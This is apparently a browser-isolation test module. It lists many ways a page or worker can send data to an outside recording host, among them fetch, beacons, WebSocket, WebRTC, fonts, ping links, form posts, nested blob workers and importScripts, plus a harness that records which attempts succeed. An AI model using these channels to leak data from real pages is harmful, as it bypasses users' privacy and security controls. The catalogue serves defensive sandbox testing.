// Attempts to send data out of a tab. Each gets the addresses of a recording host (see other-hosts.mjs). If it succeeds, the
// host records its name. If it returns a promise, the attempt ends when the promise settles.

/** Attempts in a page. */
export const PAGE_ATTEMPTS = {
  fetch: (to) => fetch(`${to.http}fetch`, { method: "POST", body: "x", mode: "no-cors" }),
  XMLHttpRequest: (to) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = done;
    request.open("POST", `${to.http}XMLHttpRequest`);
    request.send("x");
  }),
  sendBeacon: (to) => void navigator.sendBeacon(`${to.http}sendBeacon`, "x"),
  WebSocket: (to) => void new WebSocket(`ws://${to.bare}WebSocket`),
  EventSource: (to) => void new EventSource(`${to.http}EventSource`),
  WebTransport: (to) => new WebTransport(`${to.quic}WebTransport`).ready,
  WebRTC: async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  image: (to) => void (new Image().src = `${to.http}image.png`),
  "dynamic import": (to) => import(`${to.http}dynamic%20import.js`),
  script: (to) => void document.head.append(Object.assign(document.createElement("script"), { src: `${to.http}script.js` })),
  "style sheet": (to) => void document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to.http}style%20sheet.css` })),
  background: (to) => void (document.body.style.backgroundImage = `url(${to.http}background.png)`),
  font: (to) => new FontFace("x", `url(${to.http}font)`).load(),
  prefetch: (to) => void document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${to.http}prefetch` })),
  video: (to) => void (document.createElement("video").src = `${to.http}video`),
  ping: (to) => {
    const link = Object.assign(document.createElement("a"), { href: "#x", ping: `${to.http}ping` });
    document.body.append(link);
    link.click();
  },
  // Navigations come last. The browser opens a connection for them in advance, and a form that works leaves the page.
  frame: (to) => void document.body.append(Object.assign(document.createElement("iframe"), { src: `${to.http}frame.html` })),
  form: (to) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: `${to.http}form` });
    document.body.append(form);
    form.submit();
  },
};

/** Attempts in a worker. */
export const WORKER_ATTEMPTS = {
  fetch: PAGE_ATTEMPTS.fetch,
  XMLHttpRequest: PAGE_ATTEMPTS.XMLHttpRequest,
  WebSocket: PAGE_ATTEMPTS.WebSocket,
  EventSource: PAGE_ATTEMPTS.EventSource,
  WebTransport: PAGE_ATTEMPTS.WebTransport,
  font: PAGE_ATTEMPTS.font,
  "fetch of the prototype": (to) => WorkerGlobalScope.prototype.fetch.call(self, `${to.http}fetch%20of%20the%20prototype`, { mode: "no-cors" }),
  importScripts: (to) => importScripts(`${to.http}importScripts.js`),
  Cache: async (to) => (await caches.open("x")).add(`${to.http}Cache`),
  "nested worker": (to) => new Promise((done, fail) => {
    const script = `fetch("${to.http}nested%20worker", { mode: "no-cors" }).then(() => postMessage(0), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([script])));
    worker.onmessage = done;
    worker.onerror = fail;
  }),
};

/** Only a policy in the headers of the worker's script can forbid this one. */
export const WORKER_ATTEMPTS_BY_POLICY = { "dynamic import": PAGE_ATTEMPTS["dynamic import"] };

/** Makes an attempt in a page or worker. Returns its error, or null if there was none within `patience` milliseconds. */
export function attempt(place, act, addresses, patience = 5000) {
  return place.evaluate(`(async () => {
    const late = new Promise((done) => setTimeout(done, ${patience}, null));
    const tried = (async () => { await (${act})(${JSON.stringify(addresses)}); return null; })().catch((error) => \`\${error.name}: \${error.message}\`);
    return Promise.race([tried, late]);
  })()`);
}
